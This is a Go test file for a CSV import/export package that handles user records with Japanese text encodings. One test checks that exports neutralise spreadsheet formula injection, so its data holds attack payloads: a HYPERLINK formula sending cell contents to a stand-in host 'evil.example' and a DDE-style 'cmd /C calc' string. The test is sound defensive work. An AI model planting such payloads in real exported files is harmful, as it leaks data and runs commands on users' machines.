package usercsv

import (
	"bytes"
	"encoding/csv"
	"os"
	"strings"
	"testing"

	"sekisho/backend/model"

	"github.com/google/go-cmp/cmp"
)

func word(s bool) string {
	if s {
		return "利用停止"
	}
	return "有効"
}

func TestReadEncodings(t *testing.T) {
	yes, no := true, false
	all := Present{Email: true, Phone: true, Group: true}
	want := []Row{
		{Line: 2, Input: model.UserInput{Code: "000419", Name: "安井 徳彦", Email: "yasui@example.co.jp", Phone: "090 1234 1234", Group: "営業部"}, Suspended: &no, Has: all},
		{Line: 3, Input: model.UserInput{Code: "000420", Name: "安藤 章子", Email: "ando@example.co.jp", Group: "営業部"}, Suspended: &yes, Has: all},
	}
	for _, file := range []string{"users_utf8.csv", "users_bom.csv", "users_sjis.csv"} {
		t.Run("ok/"+file, func(t *testing.T) {
			data, err := os.ReadFile("testdata/" + file)
			if err != nil {
				t.Fatal(err)
			}
			rows, errs, fatal := Read(data)
			if fatal != nil || len(errs) > 0 {
				t.Fatalf("fatal=%v errs=%v", fatal, errs)
			}
			if diff := cmp.Diff(want, rows); diff != "" {
				t.Errorf("rows (-want +got):\n%s", diff)
			}
		})
	}
}

func TestReadReportsEveryBadLine(t *testing.T) {
	data, _ := os.ReadFile("testdata/users_bad.csv")
	rows, errs, fatal := Read(data)
	if fatal != nil {
		t.Fatal(fatal)
	}
	type got struct {
		Line int
		Key  string
	}
	var gotErrs []got
	for _, e := range errs {
		gotErrs = append(gotErrs, got{e.Line, e.Err.Key})
	}
	wantErrs := []got{
		{2, "user.code.required"},
		{3, "user.code.chars"},
		{4, "user.email.invalid"},
		{5, "user.name.required"},
		{7, "csv.duplicate_code"},
	}
	if diff := cmp.Diff(wantErrs, gotErrs); diff != "" {
		t.Errorf("errors (-want +got):\n%s", diff)
	}
	if len(rows) != 1 || rows[0].Input.Code != "u3" {
		t.Errorf("good rows = %+v", rows)
	}
}

func TestReadFileProblems(t *testing.T) {
	tests := []struct {
		name    string
		in      string
		fatal   string
		lineKey string
		line    int
	}{
		{"fail/empty", "  \r\n", "csv.empty", "", 0},
		{"fail/header only", "code,name\r\n", "csv.no_rows", "", 0},
		{"fail/missing name column", "code,email\nu1,a@b.jp\n", "", "csv.header.missing", 1},
		{"fail/unknown column", "code,name,shoe size\nu1,A,27\n", "", "csv.header.unknown", 1},
		{"fail/duplicate column", "code,name,氏名\nu1,A,B\n", "", "csv.header.duplicate", 1},
		{"fail/bad state", "code,name,state\nu1,A,maybe\n", "", "user.state.invalid", 2},
		{"fail/extra cells", "code,name\nu1,A,extra\n", "", "csv.columns", 2},
		{"fail/broken quote", "code,name\nu1,\"A\nu2,B\n", "", "csv.syntax", 2},
		{"fail/latin1 not sjis", "code,name\nu1,\xff\xfe\xfd\n", "csv.encoding", "", 0},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, errs, fatal := Read([]byte(tc.in))
			if tc.fatal != "" {
				if fatal == nil || fatal.Key != tc.fatal {
					t.Fatalf("fatal = %v, want %s", fatal, tc.fatal)
				}
				return
			}
			if fatal != nil {
				t.Fatalf("fatal = %v", fatal)
			}
			if len(errs) == 0 || errs[0].Err.Key != tc.lineKey || errs[0].Line != tc.line {
				t.Fatalf("errs = %+v, want %s on line %d", errs, tc.lineKey, tc.line)
			}
		})
	}
}

func TestReadTolerant(t *testing.T) {
	// English headers in any order and case, missing trailing cells, blank
	// lines, full-width spaces around values, and a lone-CR file.
	in := "Name, CODE ,Email,Group\r\n\u3000山田\u3000,y1\r\n\r\nSato,s1,s@example.com,開発部\r\n"
	rows, errs, fatal := Read([]byte(in))
	if fatal != nil || len(errs) != 0 {
		t.Fatalf("fatal=%v errs=%+v", fatal, errs)
	}
	if len(rows) != 2 || rows[0].Input.Name != "山田" || rows[0].Input.Code != "y1" || rows[1].Line != 4 || rows[1].Input.Group != "開発部" ||
		rows[0].Has != (Present{Email: true, Group: true}) {
		t.Errorf("rows = %+v", rows)
	}
	cr := "code,name\ru1,A\ru2,B\r"
	rows, _, fatal = Read([]byte(cr))
	if fatal != nil || len(rows) != 2 {
		t.Errorf("CR-only file: rows=%v fatal=%v", rows, fatal)
	}
}

func TestWriteRoundTrip(t *testing.T) {
	users := []model.User{
		{Code: "000419", Name: "安井 \"徳彦\"", Email: "y@example.co.jp", Group: "営業部, 東京"},
		{Code: "000420", Name: "高橋 😀", Suspended: true},
	}
	for _, enc := range []Encoding{UTF8, SJIS} {
		data, err := Write(users, enc, word)
		if err != nil {
			t.Fatal(err)
		}
		if enc == UTF8 && !bytes.HasPrefix(data, []byte{0xEF, 0xBB, 0xBF}) {
			t.Error("UTF-8 export lacks the BOM Excel needs")
		}
		rows, errs, fatal := Read(data)
		if fatal != nil || len(errs) > 0 || len(rows) != 2 {
			t.Fatalf("%s: read back: %v %v %d", enc, fatal, errs, len(rows))
		}
		if rows[0].Input.Name != users[0].Name || rows[0].Input.Group != users[0].Group || !*rows[1].Suspended {
			t.Errorf("%s: round trip %+v", enc, rows)
		}
		// Emoji are outside Shift_JIS; the export replaces them.
		if enc == SJIS && strings.Contains(rows[1].Input.Name, "😀") {
			t.Errorf("sjis kept an unencodable character")
		}
	}
}

// TestWriteNeutralisesFormulas exports users whose fields start with the
// characters spreadsheets read as formulas: every such cell is written
// neutralised ('=…), and the file imports back to the same values. (Tab and
// CR cannot start a user's field: Normalize trims them and Validate refuses
// control characters; csvcell's own tests cover them.)
func TestWriteNeutralisesFormulas(t *testing.T) {
	users := []model.User{
		{Code: "-u1", Name: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, Email: "=a@example.com", Phone: "+81 90 1234 5678", Group: "@group"},
		{Code: "@u2", Name: "+1+1", Email: "+tag@example.com", Phone: "-0901234", Group: "-2+3"},
		{Code: "u3", Name: "@SUM(1+1)*cmd|' /C calc'!A0", Email: "-x@example.com", Group: "=1+1"},
		{Code: "u4", Name: "'=already quoted", Group: "'plain apostrophe"},
	}
	for _, enc := range []Encoding{UTF8, SJIS} {
		data, err := Write(users, enc, word)
		if err != nil {
			t.Fatal(err)
		}
		text, _ := Decode(data)
		recs, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for i, rec := range recs {
			for j, cell := range rec {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					t.Errorf("%s: line %d cell %d = %q starts a formula", enc, i+1, j+1, cell)
				}
			}
		}
		rows, errs, fatal := Read(data)
		if fatal != nil || len(errs) > 0 {
			t.Fatalf("%s: read back: %v %+v", enc, fatal, errs)
		}
		var got []model.UserInput
		for _, r := range rows {
			got = append(got, r.Input)
		}
		var want []model.UserInput
		for _, u := range users {
			want = append(want, model.UserInput{Code: u.Code, Name: u.Name, Email: u.Email, Phone: u.Phone, Group: u.Group})
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s: round trip (-want +got):\n%s", enc, diff)
		}
	}
}

// FuzzRead checks that no input panics and that every reported line error
// names a line and a catalog key.
func FuzzRead(f *testing.F) {
	for _, name := range []string{"users_utf8.csv", "users_bom.csv", "users_sjis.csv", "users_bad.csv"} {
		data, _ := os.ReadFile("testdata/" + name)
		f.Add(data)
	}
	f.Add([]byte("code,name\n\"u1\"\"x\",A\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		rows, errs, fatal := Read(data)
		if fatal != nil && (len(rows) > 0 || len(errs) > 0) {
			t.Fatal("fatal error with results")
		}
		for _, e := range errs {
			if e.Line < 1 || e.Err == nil || e.Err.Key == "" {
				t.Fatalf("bad line error %+v", e)
			}
		}
		for _, r := range rows {
			if err := r.Input.Validate(); err != nil {
				t.Fatalf("row %d passed with invalid input: %v", r.Line, err)
			}
		}
	})
}
